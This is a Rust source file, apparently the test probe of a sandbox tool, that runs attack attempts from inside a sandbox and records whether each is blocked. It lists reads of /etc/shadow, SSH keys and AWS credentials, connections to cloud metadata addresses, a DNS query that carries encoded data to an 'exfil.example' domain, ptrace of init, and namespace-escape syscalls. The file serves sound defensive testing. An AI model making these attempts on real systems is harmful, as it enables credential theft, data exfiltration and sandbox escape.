//! The attack probe: the threat list of docs/sandbox.md, run from *inside* a sandbox by
//! `ringmcp __sandbox-probe` (see the integration tests). Each attempt is made with harmless
//! arguments where the call could succeed (bwrap's `try-syscall` technique): an allowed syscall
//! then fails with `EFAULT`/`EBADF`/`EINVAL`, a blocked one with the policy's errno, so a result
//! tells "blocked by the sandbox" from "failed by chance".

use std::ffi::CString;
use std::io;
use std::os::fd::{AsRawFd, FromRawFd, OwnedFd};

use serde::Serialize;

mod attempts;
use attempts::*;

/// One attempt and what happened.
#[derive(Debug, Clone, Serialize, serde::Deserialize)]
pub struct Attempt {
    /// Item number in the threat list of docs/sandbox.md.
    pub item: u32,
    /// What was tried.
    pub what: String,
    /// What happened: an errno name (`EPERM`), `ok`, or a description.
    pub got: String,
    /// What the sandbox must produce (any of).
    pub want: Vec<String>,
    /// `got` is one of `want`.
    pub blocked: bool,
    /// What the same attempt gives outside any sandbox (checked by the baseline run).
    pub unconfined: Baseline,
}

/// What an attempt gives outside any sandbox, as root on an ordinary host: the discipline of
/// the seccomp probes, so an expected errno that an unconfined process would get as well is
/// not mistaken for the sandbox's doing.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, serde::Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum Baseline {
    /// Outside a sandbox the attempt succeeds or fails otherwise: the baseline run must show
    /// a result not in `want`.
    Differs,
    /// The probe limits itself (an rlimit it lowered, a kernel rule that holds everywhere):
    /// the same answer anywhere; the attempt checks the mechanism, not the sandbox.
    Same,
    /// Depends on the host (a file that may be absent, mount flags, an optional kernel
    /// feature): reported, not asserted.
    Host,
    /// Not run outside a sandbox: it would change the host (create files or device nodes,
    /// mount, rename the host, ptrace init, send traffic off the machine) or the probe itself
    /// (enter a new namespace, fork through a raw clone).
    NotRun,
}

/// Settings the host passes to the probe.
#[derive(Debug, Clone, Default)]
pub struct ProbeArgs {
    /// The host's pid (must be invisible).
    pub host_pid: Option<i32>,
    /// A TCP port the host listens on at 127.0.0.1 (must be unreachable).
    pub host_port: Option<u16>,
    /// An abstract unix socket name the host listens on (must be unreachable).
    pub abstract_name: Option<String>,
    /// A SysV shm key the host created (must be invisible).
    pub shm_key: Option<i32>,
    /// A secret variable name the host exported (must be absent).
    pub secret_env: Option<String>,
    /// A writable workspace folder bound into the sandbox (code written there must not run).
    pub workspace: Option<String>,
    /// The most fds the server may hold open (its `RLIMIT_NOFILE` hard limit).
    pub nofile: Option<u64>,
    /// The sandbox has network (through the egress capture): the network attempts expect the
    /// capture's answers, and the ones that only a captured network can be asked are added.
    pub network: bool,
    /// The baseline run: outside any sandbox, every [`Baseline::NotRun`] attempt skipped.
    pub baseline: bool,
}

fn errno_name(e: i32) -> String {
    let name = match e {
        libc::EPERM => "EPERM",
        libc::ENOENT => "ENOENT",
        libc::ESRCH => "ESRCH",
        libc::EBADF => "EBADF",
        libc::EACCES => "EACCES",
        libc::EFAULT => "EFAULT",
        libc::EEXIST => "EEXIST",
        libc::EXDEV => "EXDEV",
        libc::EINVAL => "EINVAL",
        libc::EMFILE => "EMFILE",
        libc::EFBIG => "EFBIG",
        libc::ENOSPC => "ENOSPC",
        libc::EROFS => "EROFS",
        libc::ENOSYS => "ENOSYS",
        libc::ETXTBSY => "ETXTBSY",
        libc::EAFNOSUPPORT => "EAFNOSUPPORT",
        libc::ENETUNREACH => "ENETUNREACH",
        libc::ECONNREFUSED => "ECONNREFUSED",
        libc::EAGAIN => "EAGAIN",
        libc::ENOTTY => "ENOTTY",
        libc::EOPNOTSUPP => "EOPNOTSUPP",
        libc::EADDRNOTAVAIL => "EADDRNOTAVAIL",
        libc::ECONNRESET => "ECONNRESET",
        libc::EPIPE => "EPIPE",
        libc::ETIMEDOUT => "ETIMEDOUT",
        _ => return format!("errno {e}"),
    };
    name.into()
}

fn outcome(ret: i64) -> String {
    if ret < 0 {
        errno_name(io::Error::last_os_error().raw_os_error().unwrap_or(0))
    } else {
        "ok".into()
    }
}

fn io_outcome<T>(r: io::Result<T>) -> String {
    match r {
        Ok(_) => "ok".into(),
        Err(e) => e.raw_os_error().map_or_else(|| e.to_string(), errno_name),
    }
}

struct Run {
    out: Vec<Attempt>,
    baseline: bool,
}

impl Run {
    fn new(args: &ProbeArgs) -> Self {
        Run { out: Vec::new(), baseline: args.baseline }
    }

    fn add(&mut self, item: u32, what: impl Into<String>, got: String, want: &[&str]) {
        let what = what.into();
        let unconfined = unconfined(item, &what);
        self.push(item, what, got, want, unconfined);
    }

    /// An attempt that would harm the host if made outside a sandbox: in the baseline run it
    /// is recorded as not run.
    fn add_harmful(
        &mut self,
        item: u32,
        what: impl Into<String>,
        attempt: impl FnOnce() -> String,
        want: &[&str],
    ) {
        let got = if self.baseline { "not run".into() } else { attempt() };
        self.push(item, what.into(), got, want, Baseline::NotRun);
    }

    fn push(&mut self, item: u32, what: String, got: String, want: &[&str], unconfined: Baseline) {
        let blocked = want.iter().any(|w| *w == got);
        let want = want.iter().map(|w| (*w).to_owned()).collect();
        self.out.push(Attempt { item, what, got, want, blocked, unconfined });
    }
}

/// The baseline class of every attempt that is safe to make outside a sandbox (those that
/// are not go through [`Run::add_harmful`]).
fn unconfined(item: u32, what: &str) -> Baseline {
    match (item, what) {
        // Limits the probe set on itself, and the kernel's own refusal to write a running
        // binary: the same everywhere.
        (11 | 14 | 47, _) => Baseline::Same,
        (46, w) if w.starts_with("open 100 files") => Baseline::Same,
        // Host files that may not exist, host mount flags (a noexec /tmp), the host's own
        // mountinfo, its cgroup, a host fd ceiling that may be 4096 already, running a setuid
        // binary as root, optional socket families and kernel features.
        (2 | 8 | 9 | 10 | 16 | 46, _) => Baseline::Host,
        (18, "open /proc/kcore")
        | (19, "/proc/self/cgroup shows only /")
        | (18, "write /proc/sysrq-trigger")
        // Root without CAP_SYS_RESOURCE (a container's) is refused outside too.
        | (31, "raise RLIMIT_NOFILE above its hard limit")
        | (23, "open /var/run/docker.sock")
        | (53, "memfd_secret(0)") => Baseline::Host,
        (24, w) if !w.contains("AF_PACKET") => Baseline::Host,
        _ => Baseline::Differs,
    }
}

fn c(s: &str) -> CString {
    CString::new(s).expect("no NUL")
}

fn open(path: &str, flags: i32) -> String {
    let p = c(path);
    // SAFETY: a valid C string; the fd, if any, is closed at once.
    let fd = unsafe { libc::open(p.as_ptr(), flags | libc::O_CLOEXEC, 0o600) };
    if fd >= 0 {
        // SAFETY: our fd.
        unsafe { libc::close(fd) };
        return "ok".into();
    }
    outcome(-1)
}

fn syscall6(nr: libc::c_long, a: [libc::c_long; 6]) -> String {
    // SAFETY: every probe passes integers or NULL/invalid pointers the kernel checks (EFAULT);
    // none passes a pointer the kernel could write through into our memory.
    outcome(unsafe { libc::syscall(nr, a[0], a[1], a[2], a[3], a[4], a[5]) })
}

fn socket(domain: i32, ty: i32, proto: i32) -> String {
    // SAFETY: integers only; the fd is closed at once.
    let fd = unsafe { libc::socket(domain, ty | libc::SOCK_CLOEXEC, proto) };
    if fd >= 0 {
        // SAFETY: our fd.
        unsafe { libc::close(fd) };
    }
    outcome(fd.into())
}

/// Runs every attempt and returns the results, in order. Some attempts change the probe's
/// own limits (rlimits), so the probe process must not be reused afterwards.
pub fn run(args: &ProbeArgs) -> Vec<Attempt> {
    let mut r = Run::new(args);
    // First, before this probe opens anything: what the sandbox handed over.
    let fds = super::sys::open_fds_beyond_stdio();
    r.add(
        52,
        "fds open at start beyond 0-2",
        if fds.is_empty() { "none".into() } else { format!("{fds:?}") },
        &["none"],
    );
    filesystem(&mut r, args);
    secrets(&mut r, args);
    network(&mut r, args);
    privilege(&mut r);
    kernel(&mut r, args);
    r.out
}

/// Filesystem: reading, writing and linking outside what the sandbox grants.
fn filesystem(r: &mut Run, args: &ProbeArgs) {
    r.add(1, "open /etc/shadow", open("/etc/shadow", libc::O_RDONLY), &["ENOENT"]);
    for p in ["/root/.ssh/id_rsa", "/root/.aws/credentials", "/root/.config/gh/hosts.yml", "/home"]
    {
        r.add(2, format!("open {p}"), open(p, libc::O_RDONLY), &["ENOENT"]);
    }
    let create = |p: &'static str| move || open(p, libc::O_WRONLY | libc::O_CREAT);
    r.add_harmful(3, "create /usr/pwned", create("/usr/pwned"), &["EROFS"]);
    r.add_harmful(4, "create /pwned", create("/pwned"), &["EROFS"]);
    let _ = std::fs::remove_file("/tmp/l");
    let got = match std::os::unix::fs::symlink("/etc/shadow", "/tmp/l") {
        Ok(()) => open("/tmp/l", libc::O_RDONLY),
        Err(e) => format!("planting the symlink failed: {}", io_outcome::<()>(Err(e))),
    };
    let _ = std::fs::remove_file("/tmp/l");
    r.add(5, "open /tmp/l -> /etc/shadow", got, &["ENOENT"]);
    r.add(
        5,
        "open /tmp/../../../../etc/shadow",
        open("/tmp/../../../../etc/shadow", libc::O_RDONLY),
        &["ENOENT"],
    );
    let link = || {
        let got = io_outcome(std::fs::hard_link("/usr/bin/env", "/tmp/h"));
        let _ = std::fs::remove_file("/tmp/h");
        got
    };
    r.add_harmful(7, "link /usr/bin/env /tmp/h", link, &["EXDEV"]);
    let mknod = || {
        let mem = c("/tmp/mem");
        // SAFETY: a valid path; a char device number.
        let ret = unsafe { libc::mknod(mem.as_ptr(), libc::S_IFCHR | 0o600, libc::makedev(1, 1)) };
        let got = outcome(ret.into()); // before the clean-up below sets errno again
        let _ = std::fs::remove_file("/tmp/mem");
        got
    };
    // EPERM from the capability check, or EACCES from Landlock, which forbids making devices.
    r.add_harmful(8, "mknod /tmp/mem c 1 1", mknod, &["EPERM", "EACCES"]);
    for p in ["/dev/mem", "/dev/kmsg", "/dev/sda", "/dev/vda"] {
        r.add(8, format!("open {p}"), open(p, libc::O_RDONLY), &["ENOENT"]);
    }
    run_code_written(r, args);
    r.add(10, "exec a setuid binary", setuid_exec(), &["unprivileged", "no setuid binary"]);
    r.add(
        11,
        "open /proc/self/exe for writing",
        open("/proc/self/exe", libc::O_WRONLY),
        &["EACCES", "ETXTBSY", "EROFS"],
    );
    let mount = || {
        let (tmpfs, tmp) = (c("tmpfs"), c("/tmp"));
        // SAFETY: valid C strings; NULL data.
        let ret = unsafe {
            libc::mount(tmpfs.as_ptr(), tmp.as_ptr(), tmpfs.as_ptr(), 0, std::ptr::null())
        };
        outcome(ret.into())
    };
    r.add_harmful(12, "mount tmpfs on /tmp", mount, &["EPERM"]);
    r.add_harmful(13, "fill /tmp past its size", || fill("/tmp/fill", 1 << 40), &["ENOSPC"]);
    r.add(14, "write past RLIMIT_FSIZE", fsize(), &["EFBIG"]);
}

/// Secrets and information about the host.
fn secrets(r: &mut Run, args: &ProbeArgs) {
    if let Some(name) = &args.secret_env {
        let seen = std::env::var_os(name).is_some()
            || std::fs::read("/proc/self/environ")
                .is_ok_and(|e| e.windows(name.len()).any(|w| w == name.as_bytes()))
            || std::fs::read("/proc/1/environ")
                .is_ok_and(|e| e.windows(name.len()).any(|w| w == name.as_bytes()));
        r.add(
            15,
            format!("find {name} in the environment"),
            if seen { "found".into() } else { "absent".into() },
            &["absent"],
        );
    }
    let pids = std::fs::read_dir("/proc").map_or(0, |d| {
        d.flatten().filter(|e| e.file_name().to_string_lossy().parse::<u32>().is_ok()).count()
    });
    r.add(
        17,
        "count the processes in /proc",
        if pids <= 3 { "few".into() } else { format!("{pids} processes") },
        &["few"],
    );
    if let Some(pid) = args.host_pid {
        // SAFETY: kill with signal 0 only checks existence.
        let ret = unsafe { libc::kill(pid, 0) };
        r.add(17, format!("kill(host pid {pid}, 0)"), outcome(ret.into()), &["ESRCH"]);
    }
    r.add(
        18,
        "open /proc/kcore",
        open("/proc/kcore", libc::O_RDONLY),
        &["ENOENT", "EACCES", "EPERM"],
    );
    r.add(
        18,
        "write /proc/sysrq-trigger",
        open("/proc/sysrq-trigger", libc::O_WRONLY),
        &["EROFS", "EACCES", "ENOENT", "EPERM"],
    );
    r.add(
        18,
        "write /proc/sys/kernel/hostname",
        open("/proc/sys/kernel/hostname", libc::O_WRONLY),
        &["EROFS", "EACCES", "EPERM"],
    );
    r.add(16, "/proc/self/mountinfo names host paths", mountinfo_host_paths(), &["none"]);
    r.add(19, "open /sys/kernel", open("/sys/kernel", libc::O_RDONLY), &["ENOENT"]);
    let cg = std::fs::read_to_string("/proc/self/cgroup").unwrap_or_default();
    let root_only = !cg.is_empty() && cg.lines().all(|l| l.ends_with(":/"));
    r.add(
        19,
        "/proc/self/cgroup shows only /",
        if root_only { "root".into() } else { cg.trim().replace('\n', " ") },
        &["root"],
    );
    let mut name = [0u8; 64];
    // SAFETY: a valid buffer and its length.
    unsafe { libc::gethostname(name.as_mut_ptr().cast(), name.len()) };
    let host = String::from_utf8_lossy(&name[..name.iter().position(|&b| b == 0).unwrap_or(0)])
        .into_owned();
    r.add(20, "gethostname", host, &["sandbox"]);
    // SAFETY: a valid buffer and its length.
    let rename = || outcome(unsafe { libc::sethostname(c"pwned".as_ptr(), 5) }.into());
    r.add_harmful(20, "sethostname", rename, &["EPERM"]);
}

/// Network and IPC.
fn network(r: &mut Run, args: &ProbeArgs) {
    if let Some(port) = args.host_port {
        r.add(
            21,
            format!("connect 127.0.0.1:{port}"),
            io_outcome(std::net::TcpStream::connect(("127.0.0.1", port))),
            &["ENETUNREACH", "ECONNREFUSED", "EAFNOSUPPORT"],
        );
    }
    // Inside, no interface exists, so nothing leaves; outside it would send a packet off the
    // machine, which this probe never does. With network, TCP port 53 is not captured.
    let refused: &[&str] =
        if args.network { &["ECONNREFUSED"] } else { &["ENETUNREACH", "EAFNOSUPPORT"] };
    r.add_harmful(
        22,
        "connect 1.1.1.1:53",
        || io_outcome(std::net::TcpStream::connect(("1.1.1.1", 53))),
        refused,
    );
    if args.network {
        captured(r);
    }
    if let Some(name) = &args.abstract_name {
        r.add(23, format!("connect abstract @{name}"), connect_abstract(name), &["ECONNREFUSED"]);
    }
    r.add(
        23,
        "open /var/run/docker.sock",
        open("/var/run/docker.sock", libc::O_RDONLY),
        &["ENOENT"],
    );
    r.add(
        24,
        "socket(AF_PACKET)",
        socket(libc::AF_PACKET, libc::SOCK_RAW, 0),
        &["EAFNOSUPPORT", "EPERM"],
    );
    r.add(24, "socket(AF_VSOCK)", socket(libc::AF_VSOCK, libc::SOCK_STREAM, 0), &["EAFNOSUPPORT"]);
    r.add(24, "socket(AF_ALG)", socket(libc::AF_ALG, libc::SOCK_SEQPACKET, 0), &["EAFNOSUPPORT"]);
    r.add(
        24,
        "socket(AF_NETLINK, NETLINK_AUDIT)",
        socket(libc::AF_NETLINK, libc::SOCK_RAW, libc::NETLINK_AUDIT),
        &["EAFNOSUPPORT"],
    );
    r.add(
        25,
        "io_uring_setup",
        syscall6(libc::SYS_io_uring_setup, [1, 0, 0, 0, 0, 0]),
        &["ENOSYS"],
    );
    if let Some(key) = args.shm_key {
        // SAFETY: integers only.
        let ret = unsafe { libc::shmget(key, 0, 0) };
        r.add(26, format!("shmget(host key {key})"), outcome(ret.into()), &["ENOENT"]);
    }
}

/// With network: what the egress capture must refuse whatever the allowlist says (blocked
/// ranges by literal address, UDP other than DNS, a second DNS server). Every attempt lands on
/// the sandbox's own capture; none is made outside (the baseline skips them).
fn captured(r: &mut Run) {
    for (what, addr) in [
        ("connect 169.254.169.254:80 (cloud metadata), then read", "169.254.169.254:80"),
        ("connect 10.0.0.5:443 (private), then read", "10.0.0.5:443"),
        ("connect 100.100.100.200:80 (metadata in CGNAT), then read", "100.100.100.200:80"),
        ("connect [::ffff:169.254.169.254]:80 (mapped), then read", "[::ffff:169.254.169.254]:80"),
        ("connect [fd00:ec2::254]:443 (IPv6 metadata), then read", "[fd00:ec2::254]:443"),
    ] {
        r.add_harmful(22, what, || connect_then_read(addr), &["ECONNRESET", "EOF"]);
    }
    r.add_harmful(22, "UDP to 1.1.1.1:123", || udp_round_trip("1.1.1.1:123"), &["ECONNREFUSED"]);
    r.add_harmful(
        22,
        "DNS to 8.8.8.8 for a name with data in it",
        || dns_answer("8.8.8.8:53", "c2VjcmV0.exfil.example"),
        &["NXDOMAIN", "answered by the stub"],
    );
}

/// Connects, sends a request, reads: a refused captured connection is reset (or closed)
/// before any byte comes back.
fn connect_then_read(addr: &str) -> String {
    use std::io::{Read, Write};
    let addr: std::net::SocketAddr = addr.parse().expect("a literal address");
    let mut s = match std::net::TcpStream::connect_timeout(&addr, std::time::Duration::from_secs(5))
    {
        Ok(s) => s,
        Err(e) => return io_outcome::<()>(Err(e)),
    };
    let _ = s.set_read_timeout(Some(std::time::Duration::from_secs(10)));
    let _ = s.write_all(b"GET / HTTP/1.1\r\nHost: x\r\n\r\n");
    let mut buf = [0u8; 256];
    match s.read(&mut buf) {
        Ok(0) => "EOF".into(),
        Ok(n) => format!("read {n} bytes"),
        Err(e) => io_outcome::<()>(Err(e)),
    }
}

/// Sends one datagram and waits for an answer (or the ICMP refusal).
fn udp_round_trip(addr: &str) -> String {
    let s = match std::net::UdpSocket::bind("0.0.0.0:0") {
        Ok(s) => s,
        Err(e) => return io_outcome::<()>(Err(e)),
    };
    let _ = s.set_read_timeout(Some(std::time::Duration::from_secs(3)));
    if let Err(e) = s.connect(addr).and_then(|()| s.send(b"ntp?")) {
        return io_outcome::<()>(Err(e));
    }
    let mut buf = [0u8; 64];
    io_outcome(s.recv(&mut buf))
}

/// Asks `server` for the A record of `name`: the stub answers every DNS datagram itself.
fn dns_answer(server: &str, name: &str) -> String {
    let s = match std::net::UdpSocket::bind("0.0.0.0:0") {
        Ok(s) => s,
        Err(e) => return io_outcome::<()>(Err(e)),
    };
    let _ = s.set_read_timeout(Some(std::time::Duration::from_secs(3)));
    let q = crate::policy::egress::dns::query(0x5151, name, 1);
    if let Err(e) = s.connect(server).and_then(|()| s.send(&q)) {
        return io_outcome::<()>(Err(e));
    }
    let mut buf = [0u8; 512];
    match s.recv(&mut buf) {
        Ok(n) if n >= 4 && buf[3] & 0x0f == 3 => "NXDOMAIN".into(),
        Ok(n) if n >= 12 && buf[2] & 0x04 != 0 && buf[3] & 0x0f == 0 => {
            "answered by the stub".into()
        }
        Ok(n) => format!("{n}-byte answer"),
        Err(e) => io_outcome::<()>(Err(e)),
    }
}

/// Privilege and namespaces.
fn privilege(r: &mut Run) {
    r.add_harmful(
        27,
        "unshare(CLONE_NEWUSER)",
        || syscall6(libc::SYS_unshare, [libc::CLONE_NEWUSER as _, 0, 0, 0, 0, 0]),
        &["EPERM"],
    );
    r.add(28, "clone3", syscall6(libc::SYS_clone3, [0, 0, 0, 0, 0, 0]), &["ENOSYS"]);
    // Allowed, this raw clone would fork the probe.
    r.add_harmful(
        28,
        "clone(CLONE_NEWUSER)",
        || syscall6(libc::SYS_clone, [(libc::CLONE_NEWUSER | libc::SIGCHLD) as _, 0, 0, 0, 0, 0]),
        &["EPERM"],
    );
    let setns = || {
        let ns = c("/proc/1/ns/mnt");
        // SAFETY: a valid path; the fd is wrapped at once.
        let fd = unsafe { libc::open(ns.as_ptr(), libc::O_RDONLY | libc::O_CLOEXEC) };
        if fd < 0 {
            return outcome(-1);
        }
        // SAFETY: a fresh fd we own.
        let fd = unsafe { OwnedFd::from_raw_fd(fd) };
        // SAFETY: integers only.
        outcome(unsafe { libc::setns(fd.as_raw_fd(), 0) }.into())
    };
    r.add_harmful(29, "setns(/proc/1/ns/mnt)", setns, &["EPERM", "EACCES"]);
    // SAFETY: integers only.
    r.add(30, "setuid(0)", outcome(unsafe { libc::setuid(0) }.into()), &["EINVAL", "EPERM"]);
    let status = std::fs::read_to_string("/proc/self/status").unwrap_or_default();
    for (field, want) in [
        ("CapEff", "0000000000000000"),
        ("CapBnd", "0000000000000000"),
        ("NoNewPrivs", "1"),
        ("Seccomp", "2"),
    ] {
        let got = status
            .lines()
            .find_map(|l| l.strip_prefix(&format!("{field}:")))
            .map_or("missing".into(), |v| v.trim().to_owned());
        r.add(30, format!("/proc/self/status {field}"), got, &[want]);
    }
    r.add(31, "raise RLIMIT_NOFILE above its hard limit", raise_nofile(), &["EPERM"]);
    let dot = c("/");
    // SAFETY: a valid path.
    r.add(32, "chroot /", outcome(unsafe { libc::chroot(dot.as_ptr()) }.into()), &["EPERM"]);
    r.add(32, "pivot_root", syscall6(libc::SYS_pivot_root, [0, 0, 0, 0, 0, 0]), &["EPERM"]);
    r.add(
        32,
        "open_tree",
        syscall6(libc::SYS_open_tree, [-100, 0, 0, 0, 0, 0]),
        &["ENOSYS", "EPERM"],
    );
    r.add(32, "fsopen", syscall6(libc::SYS_fsopen, [0, 0, 0, 0, 0, 0]), &["ENOSYS", "EPERM"]);
    r.add(
        32,
        "move_mount",
        syscall6(libc::SYS_move_mount, [-1, 0, -1, 0, 0, 0]),
        &["ENOSYS", "EPERM"],
    );
    r.add(
        32,
        "mount_setattr",
        syscall6(libc::SYS_mount_setattr, [-1, 0, 0, 0, 0, 0]),
        &["ENOSYS", "EPERM"],
    );
    // Outside, pid 1 is the host's init: attaching would stop it.
    r.add_harmful(
        33,
        "ptrace(PTRACE_ATTACH, 1)",
        || syscall6(libc::SYS_ptrace, [libc::PTRACE_ATTACH as _, 1, 0, 0, 0, 0]),
        &["EPERM"],
    );
    r.add(
        33,
        "process_vm_readv(1)",
        syscall6(libc::SYS_process_vm_readv, [1, 0, 0, 0, 0, 0]),
        &["EPERM"],
    );
}

/// Kernel attack surface and resource limits.
fn kernel(r: &mut Run, args: &ProbeArgs) {
    r.add(
        35,
        "keyctl(KEYCTL_GET_KEYRING_ID)",
        syscall6(libc::SYS_keyctl, [0, -3, 0, 0, 0, 0]),
        &["EPERM"],
    );
    r.add(35, "add_key", syscall6(libc::SYS_add_key, [0, 0, 0, 0, 0, 0]), &["EPERM"]);
    r.add(35, "request_key", syscall6(libc::SYS_request_key, [0, 0, 0, 0, 0, 0]), &["EPERM"]);
    r.add(
        36,
        "perf_event_open",
        syscall6(libc::SYS_perf_event_open, [0, 0, -1, -1, 0, 0]),
        &["EPERM"],
    );
    r.add(37, "bpf(BPF_MAP_CREATE)", syscall6(libc::SYS_bpf, [0, 0, 0, 0, 0, 0]), &["EPERM"]);
    r.add(38, "userfaultfd", syscall6(libc::SYS_userfaultfd, [0, 0, 0, 0, 0, 0]), &["EPERM"]);
    r.add(
        39,
        "ioctl(0, TIOCSTI)",
        syscall6(libc::SYS_ioctl, [0, libc::TIOCSTI as _, 0, 0, 0, 0]),
        &["EPERM"],
    );
    r.add(
        39,
        "ioctl(0, TIOCSTI | high bits)",
        syscall6(libc::SYS_ioctl, [0, 0x1_0000_0000 | libc::TIOCSTI as libc::c_long, 0, 0, 0, 0]),
        &["EPERM"],
    );
    let got = syscall6(libc::SYS_personality, [0x0400000, 0, 0, 0, 0, 0]);
    if got == "ok" {
        // SAFETY: integers only: back to PER_LINUX.
        unsafe { libc::personality(0) };
    }
    r.add(40, "personality(READ_IMPLIES_EXEC)", got, &["EPERM"]);
    for (name, nr) in [
        ("syslog", libc::SYS_syslog),
        ("iopl", libc::SYS_iopl),
        ("reboot", libc::SYS_reboot),
        ("init_module", libc::SYS_init_module),
        ("swapon", libc::SYS_swapon),
        ("open_by_handle_at", libc::SYS_open_by_handle_at),
    ] {
        r.add(41, name, syscall6(nr, [0, 0, 0, 0, 0, 0]), &["EPERM"]);
    }
    // Allowed as root, these would switch process accounting off and unload a kexec kernel.
    for (name, nr) in [("acct", libc::SYS_acct), ("kexec_load", libc::SYS_kexec_load)] {
        r.add_harmful(41, name, || syscall6(nr, [0, 0, 0, 0, 0, 0]), &["EPERM"]);
    }
    if let Some(max) = args.nofile {
        r.add(46, format!("hold more than {max} fds open"), fd_ceiling(max), &["EMFILE"]);
    }
    r.add(47, "orphaned zombies left unreaped", orphans(), &["reaped"]);
    r.add(46, "open 100 files under RLIMIT_NOFILE=64", nofile(), &["EMFILE"]);
    let mut sig = 0;
    // SAFETY: a valid out-pointer.
    unsafe { libc::prctl(libc::PR_GET_PDEATHSIG, &mut sig) };
    r.add(
        49,
        "PR_GET_PDEATHSIG",
        if sig == libc::SIGKILL { "SIGKILL".into() } else { format!("{sig}") },
        &["SIGKILL"],
    );
}

/// Only the network attempts, with network on (`ringmcp sandbox check`'s egress row).
pub fn run_network_only(args: &ProbeArgs) -> Vec<Attempt> {
    let mut r = Run::new(args);
    network(&mut r, &ProbeArgs { network: true, ..args.clone() });
    r.out
}

/// Only the attempts to run code the probe wrote at run time (items 9 and 53), for `ringmcp
/// sandbox check`, which reports each as a layer.
pub fn run_code_written_only(args: &ProbeArgs) -> Vec<Attempt> {
    let mut r = Run::new(args);
    run_code_written(&mut r, args);
    // A second layer that only a root host can set (the seccomp denial above always holds).
    let noexec = std::fs::read_to_string("/proc/sys/vm/memfd_noexec");
    r.add(
        53,
        "vm.memfd_noexec inside the sandbox",
        noexec.map_or_else(|e| io_outcome::<()>(Err(e)), |v| v.trim().to_owned()),
        &["2"],
    );
    r.out
}

/// Writes a binary to every writable place and tries to run it: execve, the dynamic loader,
/// a memfd, `execveat(AT_EMPTY_PATH)`.
fn run_code_written(r: &mut Run, args: &ProbeArgs) {
    r.add(9, "execve a binary copied to /tmp", exec_copy("/tmp"), &["EACCES"]);
    for dir in ["/tmp", "/dev/shm"].into_iter().chain(args.workspace.as_deref()) {
        if dir != "/tmp" {
            r.add(9, format!("execve a binary copied to {dir}"), exec_copy(dir), &["EACCES"]);
        }
        r.add(9, format!("ld.so a binary copied to {dir}"), ld_so_copy(dir), &["refused"]);
    }
    r.add(53, "memfd_create(name, 0)", memfd_create(0), &["ENOSYS"]);
    r.add(53, "memfd_create(name, MFD_NOEXEC_SEAL)", memfd_create(0x8), &["ENOSYS"]);
    r.add(53, "memfd_secret(0)", syscall6(libc::SYS_memfd_secret, [0; 6]), &["ENOSYS"]);
    r.add(
        53,
        "execveat(O_PATH fd of /usr/bin/true, \"\", AT_EMPTY_PATH)",
        execveat_empty_path(),
        &["EACCES"],
    );
}
